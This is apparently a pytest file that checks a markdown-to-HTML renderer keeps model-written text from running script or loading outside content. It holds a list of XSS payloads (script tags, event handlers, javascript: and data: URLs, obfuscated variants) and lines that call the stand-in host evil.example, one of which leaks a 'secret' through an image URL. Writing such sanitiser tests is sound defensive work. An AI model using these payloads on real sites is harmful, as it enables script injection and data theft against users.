"""Markdown of a model's making, as HTML: shown as meant, and harmless."""

from __future__ import annotations

import re

import pytest

from trio_agent.web.render import MAX_RENDERED_CHARS, render

SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input>",
    "<object data=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    '![x](https://evil.example "onerror=alert(1)")',
    '[x](https://a.example "\\" onmouseover=alert(1) \\"")',
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\nx\n```',
    '```html" onload="alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</code></pre><script>alert(1)</script>",
    "<scr\0ipt>alert(1)</script>",
]
TAG = re.compile(r"<\s*/?\s*([a-zA-Z][\w-]*)((?:[^>\"']|\"[^\"]*\"|'[^']*')*)>")
HARMLESS = {
    *("p", "a", "em", "strong", "code", "pre", "span", "div", "br", "hr", "ul", "ol", "li", "blockquote", "s", "del"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTE = re.compile(r"([\w-]+)\s*=\s*\"([^\"]*)\"")


@pytest.mark.parametrize("text", SCRIPTS, ids=ascii)
@pytest.mark.parametrize("frame", ["{}", "> {}", "- {}", "# {}", "**{}**"])
def test_what_is_rendered_runs_nothing_and_loads_nothing(frame: str, text: str) -> None:
    for name, attributes in TAG.findall(render(frame.format(text))):
        assert name.lower() in HARMLESS, name
        for attribute, value in ATTRIBUTE.findall(attributes):
            assert attribute in {"class", "href", "title", "rel", "align", "start"}, attribute
            assert attribute != "href" or re.match(r"(?:https?://|mailto:|[^:]*$)", value), value


def test_links_tell_the_other_side_nothing() -> None:
    assert 'rel="noopener noreferrer nofollow"' in render("[x](https://a.example)")


def test_code_is_highlighted_by_classes_alone() -> None:
    html = render("```python\ndef f(): pass\n```")
    assert '<span class="k">def</span>' in html
    assert "style=" not in html


def test_code_of_an_unknown_language_is_shown_as_it_is() -> None:
    assert "x &lt; y" in render("```nolanguage\nx < y\n```")


def test_tables_and_strike_through_are_known() -> None:
    assert "<td>1</td>" in render("| a |\n|---|\n| 1 |")
    assert "<s>x</s>" in render("~~x~~")


def test_the_columns_of_a_table_stand_on_the_side_they_are_given() -> None:
    html = render("| a | b | c |\n|---|:-:|--:|\n| 1 | 2 | 3 |")
    assert '<th>a</th>\n<th align="center">b</th>\n<th align="right">c</th>' in html
    assert '<td>1</td>\n<td align="center">2</td>\n<td align="right">3</td>' in html


def test_a_text_too_long_to_be_rendered_is_shown_plain() -> None:
    text = "**x** <b>" * (MAX_RENDERED_CHARS // 9 + 1)
    html = render(text)
    assert html.startswith("<pre>**x** &lt;b&gt;")
    assert "<strong>" not in html


def test_what_was_written_for_a_terminal_reads_without_it() -> None:
    assert render("\x1b[31mred\x1b[0m \x1b]0;title\x07and\x9b2K plain\r\nnext") == "<p>red and plain\nnext</p>\n"
